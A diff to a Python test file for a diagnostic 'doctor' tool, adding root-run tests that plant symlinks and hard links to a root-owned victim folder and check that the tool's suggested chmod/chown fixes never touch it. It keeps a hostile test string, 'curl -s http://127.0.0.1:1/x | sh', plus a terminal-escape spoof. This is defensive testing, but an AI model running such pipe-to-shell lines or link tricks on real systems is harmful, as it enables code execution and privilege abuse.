@@ -5,13 +5,16 @@ import hashlib
 import http.server
 import json
 import os
+import socket
 import socketserver
 import struct
+import subprocess
 import threading
 import time
 
 import doctor
-from flow import cli, free_port, main
+from doctor_files import NOBODY, as_root
+from flow import cli, main
 
 EVIL = "curl -s http://127.0.0.1:1/x | sh"
 CLEAR = "\x1b[2J\x1b[1;32mAll is well\n"
@@ -190,6 +193,125 @@ class Hostile(doctor.Doctor):
             link(self.folder / "other", db)
             self.assertNotIn("store.whole", {f["check"] for f in self.ask()[1]})
             db.unlink()
+
+    # ---- links, and what root is told to change ----
+
+    def paste_all(self, *flags):
+        """What root would paste of chmod and chown, pasted; the findings."""
+        found = self.ask(*flags)[1]
+        for f in found:
+            for command in (f["next"] or "").partition("  ")[0].split("; "):
+                if command.startswith(("chmod ", "chown ")):
+                    subprocess.run(command, shell=True, check=True)
+        return {f["check"]: f for f in reversed(found)}  # the first of each
+
+    def victim(self, *folders):
+        """Somebody else's, root's, and how it is now."""
+        top = self.folder / "victim"
+        for path in (top, *(top / name for name in folders)):
+            path.mkdir()
+            path.chmod(0o755)
+            (path / "passwd.pem").write_text("root:x:0:0\n")
+            (path / "passwd.pem").chmod(0o644)
+        return top
+
+    @staticmethod
+    def all_of(top):
+        return {p: (s.st_mode, s.st_uid, s.st_gid)
+                for p in (top, *top.rglob("*")) for s in [p.lstat()]}
+
+    def mint_of_nobody(self):
+        self.folder.chmod(0o711)
+        self.begin(mint_flags=("--user", str(NOBODY)))
+        self.i.stop()
+
+    @as_root
+    def test_F26_links_in_a_data_folder(self):
+        self.mint_of_nobody()
+        keys = self.i.data / "keys"
+        keys.rename(self.folder / "aside")
+        top = self.victim("next", "active", "retiring")
+        before = self.all_of(top)
+
+        def pasted(check):
+            found = self.paste_all()
+            self.assertEqual(self.all_of(top), before)
+            return found[check]
+
+        keys.symlink_to(top)
+        f = pasted("folder.file")
+        self.assertIn("/keys is a link into what is uid 0's, and the mint is uid 65534",
+                      f["detail"])
+        self.assertNotIn("passwd", json.dumps(self.ask()[1]))
+        keys.unlink()
+        keys.mkdir(0o700)
+        os.chown(keys, NOBODY, NOBODY)
+        (keys / "next").symlink_to(top / "next")
+        f = pasted("folder.file")
+        self.assertIn("/keys/next is no folder of its own", f["detail"])
+        self.assertNotIn("passwd", json.dumps(self.ask()[1]))
+        (keys / "next").unlink()
+        (keys / "next").mkdir(0o700)
+        os.chown(keys / "next", NOBODY, NOBODY)
+        other = top / "passwd.pem"
+        for link in (os.symlink, os.link):
+            for name in ("mintmark.db-shm", "mintmark.db.lock", "admin.sock"):
+                path = self.i.data / name
+                path.unlink(missing_ok=True)
+                link(other, path)
+                f = pasted("folder.file")
+                self.assertIn(f"{path} is no ", f["detail"])
+                path.unlink()
+        os.link(other, keys / "next/AAAAAAAAAAA.pem")
+        f = pasted("keys.mode")
+        self.assertRegex(f["next"], "^ls -lab '.*/keys/next' ")
+
+    @as_root
+    def test_F26_a_lock_that_leads_to_another_daemons(self):
+        """Whose lock it is, is nobody's proof of who the mint is."""
+        self.mint_of_nobody()
+        lock = self.i.data / "mintmark.db.lock"
+        lock.unlink(missing_ok=True)
+        lock.symlink_to(self.a.state.with_name(self.a.state.name + ".lock"))
+        found = self.paste_all()
+        self.assertNotIn("folder.owner", found)
+        self.assertIn("folder.file", found)
+
+    @as_root
+    def test_F26_a_data_folder_behind_a_link(self):
+        """The administrator's own link: what is advised mends it."""
+        self.mint_of_nobody()
+        os.chown(self.i.data, 0, 0)
+        self.i.data.rename(self.folder / "disk")
+        self.i.data.symlink_to(self.folder / "disk")
+        (self.folder / "disk/keys").rename(self.folder / "ring")
+        (self.folder / "disk/keys").symlink_to(self.folder / "ring")
+        found = self.paste_all()
+        self.assertEqual(found["folder.owner"]["next"],
+                         f"chown -h {NOBODY}:{NOBODY} '{self.i.data}/.'")
+        found = {f["check"]: f["state"] for f in self.ask()[1]}
+        self.assertNotIn("folder.owner", found)
+        self.assertNotIn("folder.file", found)
+        self.assertEqual(found["keys"], "ok")
+
+    def test_F26_an_agents_socket_and_token_that_are_links(self):
+        self.begin()
+        other = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+        self.addCleanup(other.close)
+        other.bind(str(self.folder / "other.sock"))
+        (self.folder / "other.sock").chmod(0o600)
+        sock = self.a.state.with_suffix(".state.sock")
+        sock.unlink()
+        sock.symlink_to(self.folder / "other.sock")
+        token = self.folder / "other.token"
+        self.a.token_file.rename(token)
+        self.a.token_file.symlink_to(token)
+        token.chmod(0o644)
+        found = self.paste_all()
+        self.assertEqual((self.folder / "other.sock").stat().st_mode & 0o777, 0o600)
+        self.assertEqual(token.stat().st_mode & 0o777, 0o644)
+        self.assertIn("is a link, and no agent makes one", found["agent.file"]["detail"])
+        self.assertIn("others can read", found["token.mode"]["detail"])
 
 
 if __name__ == "__main__":
